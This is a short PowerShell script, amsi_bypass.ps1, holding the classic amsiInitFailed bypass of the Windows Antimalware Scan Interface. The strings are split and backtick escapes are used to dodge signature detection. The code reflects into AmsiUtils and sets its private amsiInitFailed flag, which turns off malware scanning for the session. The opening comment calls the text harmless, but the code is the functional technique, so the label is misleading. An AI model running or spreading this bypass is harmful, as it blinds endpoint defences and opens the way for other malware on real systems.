# amsi_bypass.ps1 - harmless text shaped like the classic amsiInitFailed AMSI bypass.
$t = [Ref].Assembly.GetType(('System.Management.Automation.'+'Am'+'si'+'Utils'))
$t.GetF`ield(('am'+'siIn'+'itFailed'),'NonPublic,Static').SetVa`lue($null,$true)
